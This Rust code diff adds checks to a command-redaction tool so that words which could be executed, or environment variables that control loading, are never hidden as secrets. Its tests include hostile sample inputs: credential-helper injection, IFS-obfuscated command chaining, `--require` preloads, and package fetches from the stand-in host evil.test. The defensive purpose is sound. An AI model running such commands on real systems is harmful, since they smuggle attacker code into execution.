@@ -26,8 +26,86 @@ pub(super) fn is_secret(before: Option<&str>, word: &str) -> bool {
     (looks_secret(before, word) || url(word).is_some_and(|shown| shown != word)) && !is_path(word)
 }
 
+/// The first word that could be what is run and would not be shown whole: a program's own options, and what stands behind
+/// them, up to the first operand. What is named by an option or a variable is no such word, except to a program that runs
+/// others: it takes what stands behind an option unknown to it for what it shall run.
+pub(super) fn unseen(command: &str, args: &[String]) -> Option<usize> {
+    let name = command.rsplit(['/', '\\']).next().unwrap_or_default().trim_end_matches(".exe").trim_end_matches(".cmd");
+    let container = ["docker", "podman"].contains(&name);
+    let runner = RUNNERS.iter().any(|runner| name.starts_with(runner));
+    let env = name == "env";
+    let mut before: Option<&str> = None;
+    for (at, word) in args.iter().enumerate() {
+        let option = |word: &str| word.starts_with('-') && keeps_secret(word);
+        let named = match word.split_once('=') {
+            Some((name, _)) => option(name) || container || env,
+            None => !runner && before.is_some_and(option),
+        };
+        if !named && is_secret(before, word) && (word.chars().all(inert) || hides_a_word(word)) {
+            return Some(at);
+        }
+        let operand = !named && !word.starts_with('-') && !container;
+        if operand && !(runner && ["exec", "x", "dlx", "run", "tool"].contains(&word.as_str())) {
+            return None;
+        }
+        before = Some(word.as_str());
+    }
+    None
+}
+
+/// Whether a name is a secret's, and not that of a program which is asked for one.
+fn keeps_secret(name: &str) -> bool {
+    let lower = name.to_ascii_lowercase();
+    looks_secret(None, &format!("{name}=x")) && !["helper", "command", "askpass", "program"].iter().any(|end| lower.ends_with(end))
+}
+
+/// Whether a script would be shown with a word hidden that is more than a secret's value: `TOKEN=(hidden)` runs nothing.
+fn hides_a_word(script: &str) -> bool {
+    script.split(|c| !inert(c)).any(|piece| match piece.split_once('=') {
+        Some((name, _)) => veiled(None, piece) != piece && !keeps_secret(name),
+        None => veiled(None, piece) != piece || (piece.ends_with(':') && looks_secret(None, &format!("{piece}x"))),
+    })
+}
+
+/// Whether no shell acts on a character.
+fn inert(c: char) -> bool {
+    c.is_alphanumeric() || "_-+=/.:@%,~".contains(c)
+}
+
+/// Programs that run what they are given, by the beginnings of their names.
+const RUNNERS: [&str; 18] = [
+    "npx", "npm", "pnpm", "pnpx", "bun", "yarn", "uv", "pipx", "node", "deno", "python", "ruby", "perl", "php", "sh", "bash", "zsh", "java",
+];
+
+/// Whether a variable decides by itself what a program loads or runs, so that its value has to be seen.
+fn decides(name: &str) -> bool {
+    const BEGIN: [&str; 16] = [
+        "ld_",
+        "dyld_",
+        "node_",
+        "python",
+        "perl",
+        "ruby",
+        "java_",
+        "jdk_",
+        "git_",
+        "pip_",
+        "uv_",
+        "npm_config_",
+        "bash",
+        "gem_",
+        "bun_",
+        "deno_",
+    ];
+    let name = name.to_ascii_lowercase();
+    BEGIN.iter().any(|begin| name.starts_with(begin)) || ["path", "env", "home", "shell", "zdotdir", "ifs"].contains(&name.as_str())
+}
+
 /// Whether a variable's value may be a secret. What switches or counts is none, whatever its name holds.
 pub(super) fn is_secret_value(name: &str, value: &str) -> bool {
+    if decides(name) && !keeps_secret(name) {
+        return url(value).is_some_and(|shown| shown != value);
+    }
     let counts = value.len() < 7 && value.bytes().all(|byte| byte.is_ascii_digit()) && !name.to_ascii_lowercase().contains("pass");
     let plain = value.is_empty() || counts || ["true", "false", "yes", "no", "on", "off"].contains(&value) || is_path(value);
     !plain && (looks_secret(None, &format!("{name}={value}")) || url(value).is_some_and(|shown| shown != value))
@@ -62,6 +140,13 @@ pub(super) fn program(command: &str) -> &str {
     [".exe", ".cmd"].into_iter().find_map(|ending| name.strip_suffix(ending)).unwrap_or(name)
 }
 
+/// Whom a URL leads to, without anybody's password.
+pub(super) fn host(word: &str) -> Option<String> {
+    let (_, rest) = word.split_once("://")?;
+    let authority = rest.split(['/', '?', '#']).next()?;
+    authority.rsplit('@').next().map(str::to_owned)
+}
+
 /// Whether a shell is given a script.
 pub(super) fn is_shell(command: &str, args: &[String]) -> bool {
     let name = program(command);
@@ -76,7 +161,6 @@ pub(super) fn shown(before: Option<&str>, word: &str) -> String {
     if !is_secret(before, word) {
         return quoted(word);
     }
-    let inert = |c: char| c.is_alphanumeric() || "_-+=/.:@%,~".contains(c);
     if word.chars().all(|c| inert(c) || "?&#".contains(c))
         && let Some(shown) = url(word)
     {
@@ -108,6 +192,7 @@ pub(super) fn shown(before: Option<&str>, word: &str) -> String {
 
 #[cfg(test)]
 mod tests {
+    #![allow(clippy::unwrap_used, clippy::indexing_slicing)]
     use super::*;
 
     #[test]
@@ -130,6 +215,58 @@ mod tests {
         ] {
             assert_eq!(shown(before, word), expect);
         }
+    }
+
+    #[test]
+    fn up_2_attack_63_what_could_be_run_is_never_hidden() {
+        let random = "a1".repeat(20);
+        let unseen = |line: &str| {
+            let words: Vec<String> = line.replace('R', &random).split(' ').map(str::to_owned).collect();
+            unseen(&words[0], &words[1..])
+        };
+        for (line, at) in [
+            ("node R", 0),
+            ("node sk-abcdefgh12/evil.js", 0),
+            ("node TOKEN=evil.js", 0),
+            ("node --require=sk-abcdefgh12/evil.js server.js", 0),
+            ("/usr/bin/python3 -m R", 1),
+            ("npx -y R", 1),
+            ("npx --api-key @evil/x@1.0.0", 1),
+            ("git -c credential.helper=/tmp/evil x", 1),
+            ("bash -c token=1;sk-abcdefgh12/evil", 1),
+            ("bash -c token:;./evil", 1),
+            ("bash -c PATH=sk-abcdefgh12/bin;token=1", 1),
+            ("bash -c token=1;git${IFS}-c${IFS}credential.helper=./evil", 1),
+            ("uvx --from git+https://x@evil.test/y z", 1),
+            ("docker run -i R", 2),
+            ("npm exec -- R", 2),
+            ("uv tool run R", 2),
+            ("server R", 0),
+        ] {
+            assert_eq!(unseen(line), Some(at), "{line}");
+        }
+        for line in [
+            "npx -y demo R",
+            "npx -y demo --api-key R",
+            "server --api-key R --header X",
+            "server --api-key=R",
+            "docker run -i --rm -e TOKEN=R demo/image",
+            "env TOKEN=R server",
+            "sh -c TOKEN=R;server",
+            "node server.js --token R",
+            "npx -y mcp-remote https://x.test/mcp?key=R",
+        ] {
+            assert_eq!(unseen(line), None, "{line}");
+        }
+        for (name, value) in
+            [("PATH", "sk-abcdefgh12/bin:/bin"), ("LD_PRELOAD", random.as_str()), ("GIT_ASKPASS", "evil"), ("NODE_PATH", &random)]
+        {
+            assert!(!is_secret_value(name, value), "{name}");
+        }
+        for (name, value) in [("NODE_AUTH_TOKEN", "abc"), ("X", random.as_str()), ("PIP_INDEX_URL", "https://u:p@evil.test/simple")] {
+            assert!(is_secret_value(name, value), "{name}");
+        }
+        assert_eq!(host("https://u:p@evil.test:1/simple?x"), Some("evil.test:1".to_owned()));
     }
 
     #[test]
